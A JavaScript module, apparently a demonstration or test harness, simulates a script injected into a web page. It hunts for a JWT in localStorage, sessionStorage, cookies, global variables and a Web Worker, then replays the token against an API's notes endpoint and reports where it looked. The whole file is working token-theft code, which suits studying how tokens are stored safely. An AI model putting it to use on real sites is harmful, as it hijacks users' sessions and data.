// A script that should not be here. It came along with something else, and runs with all the rights of the page.

/**
 * @param {string} api
 * @param {Worker} [worker] even the worker is within its reach
 */
export default async function attack(api, worker) {
  const tried = ['localStorage', 'sessionStorage', 'document.cookie', 'global variables'];
  const places = [...Object.values(localStorage), ...Object.values(sessionStorage), document.cookie];
  for (const value of Object.values(globalThis)) {
    if (typeof value === 'string') places.push(value);
  }
  if (worker) {
    tried.push('asking the worker');
    places.push(JSON.stringify(await askFor(worker)));
  }
  const token = /eyJ[\w-]+\.eyJ[\w-]+\.[\w-]+/.exec(places.join(' '))?.[0] ?? null;
  if (token === null) return { token, used: null, tried };
  const answer = await fetch(`${api}/notes`, { headers: { Authorization: `Bearer ${token}` } });
  return { token, used: answer.status, tried };
}

/** @param {Worker} worker */
function askFor(worker) {
  return new Promise((resolve) => {
    const channel = new MessageChannel();
    channel.port1.onmessage = ({ data }) => resolve(data);
    worker.postMessage({ kind: 'give' }, [channel.port2]);
    setTimeout(resolve, 1000);
  });
}
